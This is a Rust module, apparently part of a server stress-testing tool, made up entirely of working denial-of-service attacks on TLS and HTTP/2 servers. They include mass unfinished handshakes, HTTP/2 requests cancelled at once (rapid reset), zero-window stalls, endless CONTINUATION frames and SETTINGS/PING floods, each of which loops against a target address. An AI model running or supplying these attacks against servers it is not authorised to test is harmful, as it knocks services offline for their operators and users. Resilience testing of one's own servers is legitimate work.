//! The attacks on a server with TLS and HTTP/2.

use std::time::Duration;

use tokio::io::AsyncReadExt as _;
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

use super::attacks::{Held, PATIENCE, small, write};
use super::target::{PAGE, Stream, Target};

const HTTP2: &[u8] = b"h2";

/// Requests that one connection sends.
const STREAMS: u32 = 32;

/// The beginning of a `ClientHello`.
const HELLO: [u8; 9] = [22, 3, 1, 2, 0, 1, 0, 1, 0xfc];

/// Types of frames of HTTP/2.
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The preface of a connection, with settings as pairs of an id and a value.
fn preface(settings: &[(u16, u32)]) -> Vec<u8> {
    let mut payload = Vec::new();
    for (id, value) in settings {
        payload.extend(id.to_be_bytes());
        payload.extend(value.to_be_bytes());
    }
    let preface: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    [preface, &frame(SETTINGS, 0, 0, &payload)].concat()
}

/// A GET with all header fields of the target.
fn get(to: &Target, path: &str) -> Vec<u8> {
    // `:method`, `:scheme` and `:path`, by their numbers in the static table of HPACK
    let mut block = vec![0x82, 0x87, 0x04];
    push_text(&mut block, path);
    for line in to.fields.lines() {
        let (name, value) = line.split_once(": ").expect("a field");
        match name {
            "Host" => block.push(0x01),
            name => {
                block.push(0);
                push_text(&mut block, &name.to_lowercase());
            }
        }
        push_text(&mut block, value);
    }
    block
}

fn push_text(block: &mut Vec<u8>, text: &str) {
    block.push(u8::try_from(text.len()).expect("less than 127 bytes"));
    block.extend(text.as_bytes());
}

/// A connection of HTTP/2 that reads as little as possible.
async fn connect(to: &Target, settings: &[(u16, u32)]) -> Option<Stream> {
    let mut stream = small(to, HTTP2).await?;
    let written = timeout(PATIENCE, write(&mut stream, &preface(settings))).await;
    written.ok()?.ok()?;
    Some(stream)
}

/// Connections that never complete their handshake.
pub(super) async fn unfinished_handshakes(to: Target) -> Held {
    let mut held = Held::default();
    for _ in 0..1_100 {
        let connected = timeout(PATIENCE, TcpStream::connect(to.address)).await;
        if let Ok(Ok(stream)) = connected {
            let mut stream: Stream = Box::new(stream);
            let _ = timeout(PATIENCE, write(&mut stream, &HELLO)).await;
            held.streams.push(stream);
        }
    }
    held
}

/// Handshakes without requests.
pub(super) async fn repeated_handshakes(to: Target) -> Held {
    let mut held = Held::default();
    for _ in 0..4 {
        let to = to.clone();
        held.tasks.spawn(async move {
            loop {
                drop(timeout(PATIENCE, to.connect()).await);
            }
        });
    }
    held
}

/// Requests that are cancelled at once.
pub(super) async fn cancelled(to: Target) -> Held {
    let block = get(&to, PAGE);
    let mut requests = Vec::new();
    for index in 0..1_000 {
        let id = 2 * index + 1;
        requests.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &block));
        requests.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
    }
    repeated(&to, requests)
}

/// Pages in windows that stay closed.
pub(super) async fn unread(to: Target) -> Held {
    let block = get(&to, PAGE);
    let mut held = Held::default();
    // the initial window of a stream has no byte
    let settings = [(4, 0)];
    for _ in 0..100 {
        let Some(mut stream) = connect(&to, &settings).await else {
            continue;
        };
        for index in 0..STREAMS {
            let request = frame(HEADERS, END_STREAM | END_HEADERS, 2 * index + 1, &block);
            let _ = timeout(PATIENCE, write(&mut stream, &request)).await;
        }
        held.streams.push(stream);
    }
    held
}

/// Heads whose end never comes.
pub(super) async fn endless_heads(to: Target) -> Held {
    let mut requests = frame(HEADERS, END_STREAM, 1, &get(&to, PAGE));
    // a field that is not indexed
    let mut field = vec![0];
    push_text(&mut field, "x");
    push_text(&mut field, &"x".repeat(100));
    let part = frame(CONTINUATION, 0, 1, &field.repeat(100));
    requests.extend(part.repeat(100));
    repeated(&to, requests)
}

/// Settings and pings, which the server has to acknowledge.
pub(super) async fn control_frames(to: Target) -> Held {
    let settings = frame(SETTINGS, 0, 0, &[]);
    let both = [settings, frame(PING, 0, 0, &[7; 8])].concat();
    repeated(&to, both.repeat(10_000))
}

/// Sends the same frames on one connection after the other, from two clients.
fn repeated(to: &Target, frames: Vec<u8>) -> Held {
    let frames: std::sync::Arc<[u8]> = frames.into();
    let mut held = Held::default();
    for _ in 0..2 {
        let (to, frames) = (to.clone(), std::sync::Arc::clone(&frames));
        held.tasks.spawn(async move {
            loop {
                if let Some(mut stream) = connect(&to, &[]).await {
                    let _ = timeout(PATIENCE, write(&mut stream, &frames)).await;
                    let mut some = [0; 4_096];
                    let _ = timeout(PATIENCE, stream.read(&mut some)).await;
                }
                sleep(Duration::from_millis(50)).await;
            }
        });
    }
    held
}
